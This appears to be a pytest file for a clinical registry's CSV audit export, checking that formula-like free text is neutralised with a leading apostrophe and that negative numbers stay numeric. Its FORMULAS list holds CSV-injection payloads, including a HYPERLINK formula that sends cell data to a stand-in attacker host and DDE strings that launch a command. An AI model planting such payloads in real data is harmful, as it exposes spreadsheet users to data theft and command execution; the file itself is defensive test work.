"""CSV injection: free text stored in the registry reaches the export as text a spreadsheet
will not run (OWASP, https://owasp.org/www-community/attacks/CSV_Injection), while genuine
negative numbers stay numbers."""

import csv
from datetime import timedelta

import pytest

from thermablate.audit.exports.run import export
from thermablate.registry import actions

FORMULAS = [
    '=HYPERLINK("https://attacker.example/?"&A2,"Details")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3",
    "\t=1+2",
    "\r=1+2",
]
FREE_TEXT_COLUMNS = ("device_manufacturer", "device_model", "device_lot", "lesion_primary_tumour")


def store_free_text(procedure, text: str) -> None:
    """The text in the procedure's device fields and the lesion's primary tumour, as the
    registry accepts it (its own validation passes)."""
    procedure.device_manufacturer = procedure.device_model = procedure.device_lot = text
    procedure.full_clean()
    procedure.save()
    lesion = procedure.lesion
    lesion.primary_tumour = text
    lesion.full_clean()
    lesion.save()


def raw_text(path) -> str:
    """The file as written, carriage returns included."""
    with path.open(newline="", encoding="utf-8") as handle:
        return handle.read()


def as_quoted_cell(text: str) -> str:
    """How a CSV writer puts ``text`` in double quotes (inner quotes doubled)."""
    return '"' + text.replace('"', '""') + '"'


@pytest.mark.parametrize("pseudonymised", [True, False])
@pytest.mark.parametrize("formula", FORMULAS)
def test_it_writes_a_formula_in_free_text_as_quoted_text(
    tmp_path, recorded_cohort, formula, pseudonymised
):
    store_free_text(recorded_cohort["procedure"], formula)
    out = tmp_path / "audit.csv"
    export(export_format="csv", out=out, pseudonymised=pseudonymised)
    raw = raw_text(out)
    with out.open(newline="", encoding="utf-8") as handle:
        [row] = list(csv.DictReader(handle))
    for column in FREE_TEXT_COLUMNS:
        assert row[column] == "'" + formula  # the text kept, behind the apostrophe
    assert raw.count(as_quoted_cell("'" + formula)) == len(FREE_TEXT_COLUMNS)
    # No cell of the file starts with a formula character outside the quotes.
    assert f",{formula}" not in raw and f'"{formula}' not in raw


def test_it_leaves_negative_numbers_as_numbers(tmp_path, recorded_cohort, clinician):
    procedure = recorded_cohort["procedure"]
    # The worst EQ-5D-5L state has a negative index under every value set.
    actions.record_assessment(
        procedure.assessments.get(timepoint="1w"),
        acting_user=clinician,
        analgesics=[],
        assessed_on=procedure.procedure_date + timedelta(days=7),
        pain_worst=9,
        pain_average=9,
        eq5d_mobility=5,
        eq5d_self_care=5,
        eq5d_usual_activities=5,
        eq5d_pain_discomfort=5,
        eq5d_anxiety_depression=5,
        no_analgesics=True,
        notes="=1+2",
    )
    out = tmp_path / "audit.csv"
    export(export_format="csv", out=out, pseudonymised=True)
    with out.open(newline="", encoding="utf-8") as handle:
        header, values = list(csv.reader(handle))
    row = dict(zip(header, values, strict=True))
    assert row["1w_eq5d_index"].startswith("-") and float(row["1w_eq5d_index"]) < 0
    assert row["baseline_day"] == "-1" and row["mdt_decision_day"] == "-10"
    # Bare in the file (not text in quotes): a spreadsheet reads them as numbers.
    raw = raw_text(out)
    for value in (row["1w_eq5d_index"], row["baseline_day"], row["mdt_decision_day"]):
        assert f",{value}," in raw
        assert f'"{value}"' not in raw and f"'{value}" not in raw
